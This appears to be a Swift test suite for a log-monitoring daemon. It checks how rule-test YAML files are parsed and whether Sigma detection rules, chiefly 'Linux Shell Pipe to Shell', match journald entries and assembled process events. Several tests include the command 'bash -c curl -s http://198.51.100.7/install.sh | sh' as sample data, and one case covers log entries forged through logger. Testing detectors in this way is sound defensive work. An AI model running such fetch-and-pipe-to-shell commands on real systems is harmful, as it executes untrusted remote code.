import Foundation
import Journal
import Parse
import Testing
@testable import Daemon

/// Rule test cases with several journal entries (`export:`) and with assembled events (`kind:`).
@Suite struct RuleTestEventParsingTests {
    @Test func exportHoldsSeveralEntriesInOrder() throws {
        let (cases, problems) = RuleTestFile.parse("""
            - name: three records
              export: |
                __REALTIME_TIMESTAMP=1
                MESSAGE=first

                __CURSOR=s=abc;i=9
                MESSAGE=second

                MESSAGE=third
              match: [r]
            """, file: "x.test.yml")
        #expect(problems.isEmpty, "\(problems)")
        let entries = try #require(cases.first?.entries)
        #expect(entries.map { $0.string("MESSAGE") } == ["first", "second", "third"])
        #expect(entries.map { $0.cursor?.rawValue } == ["s=export;i=1", "s=abc;i=9", "s=export;i=3"])
        #expect(entries.first?.realtime == 1)
        #expect(cases.first?.kind == nil)
    }

    @Test func problemInALaterEntryNamesItsLine() {
        let (cases, problems) = RuleTestFile.parse("""
            - name: records
              export: |
                MESSAGE=first

                MESSAGE=second

                __REALTIME_TIMESTAMP=soon
              match: [r]
            """, file: "x.test.yml")
        #expect(cases.isEmpty)
        #expect(problems == [
            "x.test.yml:7: error: in the event of case 'records': '__REALTIME_TIMESTAMP' is 'soon', not a number — give microseconds as a whole number, e.g. 1700000000000000",
        ])
    }

    @Test func exportHoldsAtMostTenThousandEntries() {
        func file(entries: Int) -> String {
            "- name: many\n  export: |\n" + String(repeating: "    MESSAGE=x\n\n", count: entries) + "  match: [r]\n"
        }
        let most = RuleTestFile.parse(file(entries: RuleTestFile.maximumEntries), file: "x.test.yml")
        #expect(most.problems.isEmpty, "\(most.problems)")
        #expect(most.cases.first?.entries.count == 10_000)
        #expect(RuleTestFile.parse(file(entries: 10_001), file: "x.test.yml").problems == [
            "x.test.yml:2: error: the export of case 'many' holds 10001 entries, more than 10000 — keep the entries of the event under test; split the others into cases",
        ])
    }

    @Test func kindMakesTheEventMapAnAssembledEvent() throws {
        let (cases, problems) = RuleTestFile.parse("""
            - name: pipe to shell
              event:
                Image: /usr/bin/bash
                CommandLine: "bash -c curl -s http://198.51.100.7/install.sh | sh"
                a0: bash
                _TRANSPORT: audit
              kind: process_creation
              match: [r]
            """, file: "x.test.yml")
        #expect(problems.isEmpty, "\(problems)")
        let testCase = try #require(cases.first)
        #expect(testCase.kind == .processCreation)
        let entry = try #require(testCase.entries.first)
        #expect(testCase.entries.count == 1)
        #expect(entry.fields.map(\.nameString) == ["Image", "CommandLine", "a0", "_TRANSPORT"])
        #expect(entry.string("CommandLine") == "bash -c curl -s http://198.51.100.7/install.sh | sh")
    }

    @Test func kindProblemsNameTheirLines() {
        let (cases, problems) = RuleTestFile.parse("""
            - name: unknown kind
              kind: process_create
              event: {Image: /usr/bin/bash}
              match: [r]
            - name: kind with export
              export: |
                MESSAGE=x
              kind: process_creation
              match: [r]
            - name: space in a name
              kind: file_event
              event: {"Target Filename": /tmp/x}
              match: [r]
            - name: Sysmon names without kind
              event: {Image: /usr/bin/bash}
              match: [r]
            - name: kind is a list
              kind: [file_event]
              event: {TargetFilename: /tmp/x}
              match: [r]
            """, file: "t.test.yml")
        #expect(cases.isEmpty)
        let kinds = "audit_record, process_creation, process_termination, file_event, file_delete, network_connection"
        #expect(problems == [
            "t.test.yml:2: error: unknown kind 'process_create' — use one of \(kinds)",
            "t.test.yml:8: error: 'kind' applies to 'event:', not to 'export:' — remove 'kind' to assemble the export's entries as run and replay do, or give the event's fields under 'event:'",
            "t.test.yml:12: error: 'Target Filename' is not an event field name — use the names rules/FIELDS.md lists (Image, CommandLine, ParentImage, TargetFilename, _TRANSPORT …)",
            "t.test.yml:15: error: 'Image' is not a journal field name — for an assembled event's fields (Image, CommandLine …) add 'kind:' (e.g. 'kind: process_creation')",
            "t.test.yml:18: error: 'kind' must be text — use one of \(kinds)",
        ])
    }
}

@Suite struct RuleTestEventRunnerTests {
    static let packageRoot = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
        .deletingLastPathComponent().deletingLastPathComponent().path
    static let logSources = packageRoot + "/rules/logsources.yml"
    /// SigmaHQ's "Linux Shell Pipe to Shell", as ../shared/sigma holds it beside the repository.
    static let pipeShellRule = packageRoot
        + "/../shared/sigma/rules/rules/linux/process_creation/proc_creation_lnx_susp_pipe_shell.yml"
    static let pipeShellIdentifier = "880973f3-9708-491c-a77b-2a35a1921158"
    /// Its tests: `kind: process_creation` events and the audit records of Tests/Fixtures/audit/curl-pipe-sh.log.
    static let pipeShellTests = packageRoot + "/Tests/Fixtures/rule-tests/proc_creation_lnx_susp_pipe_shell.test.yml"

    func directory() throws -> String {
        let path = NSTemporaryDirectory() + "cordon-rule-tests-" + UUID().uuidString
        try FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: true)
        return path
    }

    @Test func sigmaProcessCreationRuleMatchesAssembledEventsAndAuditRecords() throws {
        let report = try RuleTestRunner.run(paths: [Self.logSources, Self.pipeShellRule, Self.pipeShellTests], dataThreshold: 65536)
        #expect(report.failures.map(\.description) == [])
        #expect(report.passed == 5)
        #expect(report.failed == 0)
        #expect(report.warnings == [])
    }

    @Test func expectationsThatDoNotHoldFail() throws {
        let path = try directory()
        defer { try? FileManager.default.removeItem(atPath: path) }
        let fixture = try String(contentsOfFile: Self.pipeShellTests, encoding: .utf8)
        // Turn every expectation around: each case must now fail.
        let inverted = fixture.replacingOccurrences(of: "trusted: true", with: "trusted: false")
            .replacingOccurrences(of: "trusted: false\n\n- name: bash -c without", with: "trusted: true\n\n- name: bash -c without")
            .replacingOccurrences(of: "no_match: [", with: "match: [")
        try inverted.write(toFile: path + "/pipe.test.yml", atomically: true, encoding: .utf8)
        let report = try RuleTestRunner.run(paths: [Self.logSources, Self.pipeShellRule, path + "/pipe.test.yml"], dataThreshold: 65536)
        #expect(report.passed == 0)
        #expect(report.failed == 5)
        #expect(report.failures.map(\.caseName) == [
            "bash -c pipes a download into sh, as an assembled event", "the same event forged through logger -t sysmon",
            "bash -c without a pipe into a shell", "the audit records of the bash -c exec, as journald stores them",
            "the audit records of curl's exec",
        ])
        #expect(report.failures.map { $0.trustProblem != nil } == [true, true, false, true, false])
    }

    @Test func journalEntryWithTheSameFieldsIsNoProcessEvent() throws {
        let path = try directory()
        defer { try? FileManager.default.removeItem(atPath: path) }
        // Without `kind`, the event is a journal entry: process_creation rules never see it.
        try """
            - name: a journal entry is not an exec
              event:
                MESSAGE: "bash -c curl -s http://198.51.100.7/install.sh | sh"
                _TRANSPORT: audit
              no_match: [\(Self.pipeShellIdentifier)]
            """.write(toFile: path + "/entry.test.yml", atomically: true, encoding: .utf8)
        let report = try RuleTestRunner.run(paths: [Self.logSources, Self.pipeShellRule, path + "/entry.test.yml"], dataThreshold: 65536)
        #expect(report.failures.map(\.description) == [])
        #expect(report.passed == 1)
    }

    @Test func explainCoversEachEntryAndEachAssembledEvent() throws {
        let report = try RuleTestRunner.run(paths: [Self.logSources, Self.pipeShellRule, Self.pipeShellTests], dataThreshold: 65536,
                                            explain: true)
        #expect(report.explanations.count == 5)
        let kindCase = report.explanations[0].split(separator: "\n").map(String.init)
        #expect(kindCase.first == "\(Self.pipeShellTests):7: case 'bash -c pipes a download into sh, as an assembled event':")
        #expect(kindCase.dropFirst().first == "    entry s=export;i=1 (process_creation event)")
        #expect(kindCase.contains { $0.contains("selected, trusted") })
        #expect(kindCase.contains { $0.contains("rule \(Self.pipeShellIdentifier) 'Linux Shell Pipe to Shell': MATCH") })
        let exportCase = report.explanations[3].split(separator: "\n").map(String.init)
        let heads = exportCase.filter { $0.hasPrefix("    entry ") }
        #expect(heads == (1...6).map { "    entry s=export;i=\($0)" } + ["    entry s=export;i=1 (process_creation event)"])
        #expect(exportCase.contains { $0.contains("rule \(Self.pipeShellIdentifier) 'Linux Shell Pipe to Shell': MATCH") })
    }

    @Test func everyEntryOfAnExportIsEvaluatedAndAnyTrustedMatchCounts() throws {
        let path = try directory()
        defer { try? FileManager.default.removeItem(atPath: path) }
        try """
            logsources:
              - logsource: {product: linux, service: marker}
                select: {SYSLOG_IDENTIFIER: marker}
                trusted: {_EXE: /usr/bin/marker}
            ---
            title: Marker
            id: marker-rule
            level: high
            logsource: {product: linux, service: marker}
            detection:
                selection:
                    MESSAGE|contains: marker
                condition: selection

            """.write(toFile: path + "/marker.yml", atomically: true, encoding: .utf8)
        try """
            - name: the second of three entries matches, from logger
              export: |
                SYSLOG_IDENTIFIER=marker
                MESSAGE=nothing

                SYSLOG_IDENTIFIER=marker
                MESSAGE=a marker
                _EXE=/usr/bin/logger

                SYSLOG_IDENTIFIER=marker
                MESSAGE=nothing again
              match: [marker-rule]
              trusted: false
            - name: a forged and a genuine marker
              export: |
                SYSLOG_IDENTIFIER=marker
                MESSAGE=a marker
                _EXE=/usr/bin/logger

                SYSLOG_IDENTIFIER=marker
                MESSAGE=a marker
                _EXE=/usr/bin/marker
              match: [marker-rule]
              trusted: true
            - name: no entry matches
              export: |
                SYSLOG_IDENTIFIER=marker
                MESSAGE=nothing

                MESSAGE=a marker, not selected
              no_match: [marker-rule]
            - name: one entry, as before
              event: {SYSLOG_IDENTIFIER: marker, MESSAGE: a marker, _EXE: /usr/bin/marker}
              match: [marker-rule]
              trusted: true
            """.write(toFile: path + "/marker.test.yml", atomically: true, encoding: .utf8)
        let report = try RuleTestRunner.run(paths: [path], dataThreshold: 65536)
        #expect(report.failures.map(\.description) == [])
        #expect(report.passed == 4)
    }

    @Test func kindEventRunsOnlyTheRulesOfItsKind() throws {
        let engine = try RuleLoading.engine(paths: [Self.logSources, Self.pipeShellRule]).engine
        let runner = RuleTestRunner(engine: engine)
        let fields = JournalEntry(["CommandLine": "bash -c curl x | sh", "_TRANSPORT": "audit"])
        let event = { (kind: EventKind) in
            RuleTestCase(name: "k", file: "k.test.yml", line: 1, entries: [fields], kind: kind,
                         expectations: [RuleTestExpectation(ruleIdentifier: Self.pipeShellIdentifier, shouldMatch: true, line: 1)])
        }
        #expect(runner.run([event(.processCreation)]).passed == 1)
        // The same fields as a file event: the process_creation rule does not run on it.
        #expect(runner.run([event(.fileEvent)]).failed == 1)
    }
}
